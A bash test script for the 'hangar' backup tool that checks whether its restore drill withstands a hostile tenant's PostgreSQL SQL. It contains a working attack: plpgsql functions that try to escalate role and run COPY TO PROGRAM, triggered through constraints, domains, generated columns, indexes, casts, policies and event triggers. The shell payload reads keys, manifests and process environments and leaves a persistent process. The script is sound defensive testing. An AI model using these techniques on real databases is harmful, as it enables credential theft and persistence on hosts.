#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: The hangar authors
#
# A tenant's SQL attacks the drill that restores it: from constraints, domains, generated columns,
# indexes, views, casts and event triggers it tries to run programs that read keys and the sink,
# and that stay.  With isolation it reaches nothing; without, hangar refuses the drill.
. "$(dirname "$0")/lib.sh"

pg_start "$work"
createdb shop
mkdir -m 777 "$work/loot"
mkdir -m 711 "$work/temp"
export HANGAR_TEST_SECRET="secret of the environment"
echo "a key of hangar, of at least thirty-two characters" >"$work/key"
chmod 600 "$work/key"
write_attack_config() # OPTIONS
{
    cat >"$work/backup.yaml" <<END
version: 1
limits: { temp_dir: ./temp }
signing: { key_file: ./key }
sources:
  app_db:
    plugin: postgres
    options: { host: "$PGHOST", port: $PGPORT, database: shop, user: postgres${1:-} }
sinks:
  local: { plugin: storage-local, options: { path: ./backups } }
pipelines:
  nightly: { sources: [app_db], sinks: [local] }
END
}
write_attack_config

# What the attack runs once it may: it takes all that it can read, connects, and stays.
cat >"$work/program" <<END
exec 2>/dev/null
{ id; cat $work/key $work/backups/*/*/manifest.json; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep HANGAR_TEST; } >$work/loot/\$PLACE
(setsid sleep 7654321 >/dev/null &)
END

psql -qX -v ON_ERROR_STOP=1 -d shop <<'SQL'
CREATE ROLE tenant LOGIN;
CREATE ROLE ward NOLOGIN CONNECTION LIMIT 0;
ALTER ROLE ward SET default_transaction_read_only = on;
CREATE SCHEMA app AUTHORIZATION tenant;
SQL
psql -qX -v ON_ERROR_STOP=1 -d shop -U tenant -v program="$(<"$work/program")" <<'SQL'
SET search_path = app;
CREATE TABLE app.program AS SELECT :'program'::text AS text;
SELECT format($f$
CREATE FUNCTION app.attack_now(place text) RETURNS boolean LANGUAGE plpgsql AS $a$
BEGIN
    BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'SET SESSION AUTHORIZATION postgres'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'SET ROLE postgres'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN
        EXECUTE format('COPY (SELECT 1) TO PROGRAM %%L', 'PLACE=' || place || E'\n' || %L);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
END $a$
$f$, text) FROM app.program \gexec
-- what an index needs, and what it calls may do as it likes
CREATE FUNCTION app.attack(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$BEGIN RETURN app.attack_now(place); END$$;
CREATE TABLE by_check (id int PRIMARY KEY, n int CHECK (n > 0 AND app.attack('check')));
INSERT INTO by_check SELECT i, i FROM generate_series(1, 5) i;
CREATE DOMAIN app.careful AS text CHECK (app.attack('domain'));
CREATE TABLE by_domain (v app.careful);
INSERT INTO by_domain VALUES ('a');
CREATE TABLE by_generated (i int, g int GENERATED ALWAYS AS (i + app.attack('generated')::int) STORED);
INSERT INTO by_generated VALUES (1);
CREATE INDEX ON by_check ((app.attack('index')));
CREATE MATERIALIZED VIEW by_view AS SELECT app.attack('view') FROM by_check;
-- a foreign key that compares through a cast of the tenant
CREATE TYPE app.colour AS ENUM ('red');
CREATE FUNCTION app.colour_text(c app.colour) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
    $$BEGIN PERFORM app.attack('cast'); RETURN 'red'; END$$;
CREATE CAST (app.colour AS text) WITH FUNCTION app.colour_text(app.colour) AS IMPLICIT;
CREATE TABLE colours (name text PRIMARY KEY);
INSERT INTO colours VALUES ('red');
CREATE TABLE by_cast (c app.colour REFERENCES colours);
INSERT INTO by_cast VALUES ('red');
-- what the owner may not do itself
CREATE TABLE own_rights_revoked (v text, f boolean CHECK (f));
INSERT INTO own_rights_revoked VALUES ('a', true);
REVOKE ALL ON own_rights_revoked FROM tenant;
CREATE TABLE own_policy (v text);
INSERT INTO own_policy VALUES ('seen');
ALTER TABLE own_policy ENABLE ROW LEVEL SECURITY;
ALTER TABLE own_policy FORCE ROW LEVEL SECURITY;
CREATE POLICY none ON own_policy USING (app.attack('policy') AND false);
CREATE FUNCTION app.event() RETURNS event_trigger LANGUAGE plpgsql AS
    $$BEGIN PERFORM app.attack('event'); END$$;
SQL
psql -qX -v ON_ERROR_STOP=1 -d shop <<'SQL'
CREATE TABLE by_superuser (v text CHECK (app.attack('superuser')));
GRANT ALL ON by_superuser TO tenant;
CREATE TABLE of_ward (v int CHECK (v > 0));
INSERT INTO of_ward VALUES (1), (2);
ALTER TABLE of_ward OWNER TO ward;
CREATE TABLE spare (v int); -- rows of another owner in the same object
INSERT INTO spare VALUES (1);
SQL
psql -qX -v ON_ERROR_STOP=1 -d shop -U tenant -c "INSERT INTO by_superuser VALUES ('a')"
psql -qX -v ON_ERROR_STOP=1 -d shop -c "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION app.event()"
[[ -z $(ls "$work/loot") ]] || fail "the attack has begun before the drill: $(ls "$work/loot")"

make_backup
left() { pgrep -f 'sleep 765432[1]' >/dev/null; }
nothing_taken()
{
    [[ -z $(ls "$work/loot") ]] || fail "taken: $(ls "$work/loot"): $(cat "$work"/loot/*)"
    ! left || fail "the attack has left a process"
    [[ -z $(ls -A "$work/temp") ]] || fail "files are left: $(ls -A "$work/temp")"
}

promise "the attack works where the tenant's SQL runs as superuser without isolation"
expect_exit 0 hangar restore "$id" --set app_db.database=copy --yes
for place in check domain generated superuser cast; do
    [[ -s $work/loot/$place ]] || fail "the attack from $place does not work: $(ls "$work/loot")"
done
left || fail "the attack has left no process"
pkill -f 'sleep 765432[1]'
rm -f "$work"/loot/*

promise "a drill proves the same backup, and the attack reaches nothing"
expect_exit 0 hangar --json verify "$id" --level drill
[[ $(json 'int(d["backups"][0]["sources"][0]["report"]["compared_tables"])') -ge 11 ]] || fail "tables"
nothing_taken

if [[ $(id -u) == 0 ]]; then
    promise "the attack reaches nothing when an unprivileged user drills"
    chmod a+rX "$work" "$work/plugins" "$work"/plugins/*
    mkdir -m 700 "$work/hers" "$work/hers/temp"
    cp -r "$work/backups" "$work/key" "$work/backup.yaml" "$work/hers"
    chown -R nobody "$work/hers"
    sed -i "s|$work/key|$work/hers/key|" "$work/program"
    as_nobody()
    {
        setpriv --reuid nobody --regid "$(id -g nobody)" --clear-groups env HOME="$work/hers" \
            HANGAR_STATE_DIR="$work/hers/state" "$hangar_program" -c "$work/hers/backup.yaml" "$@"
    }
    expect_exit 0 as_nobody verify "$id" --level drill
    nothing_taken
    [[ -z $(ls -A "$work/hers/temp") ]] || fail "left: $(ls -A "$work/hers/temp")"

    promise "where a server cannot be isolated, check reports it, and the drill is refused"
    confined() { setpriv --bounding-set=-sys_admin "$hangar_program" -c "$work/backup.yaml" "$@"; }
    expect_exit 0 confined check
    expect_output "refused: this machine cannot isolate a server"
    expect_exit 0 hangar check
    expect_not_in out "refused"
    expect_exit 1 confined verify "$id" --level drill
    expect_output "cannot isolate a throw-away PostgreSQL server"
    expect_output "drill_isolation: preferred"
    nothing_taken

    promise "when that is accepted, rows are still not loaded by a superuser"
    write_attack_config ", drill_isolation: preferred"
    expect_exit 0 confined check
    expect_output "not isolated from this machine"
    expect_exit 0 confined verify "$id" --level drill
    expect_output "is not isolated from this machine"
    # (definitions are: the server folds the constant of a generated column)
    for place in check domain superuser policy; do
        [[ ! -e $work/loot/$place ]] || fail "taken from $place: $(<"$work/loot/$place")"
    done
    pkill -f 'sleep 765432[1]' || true
fi
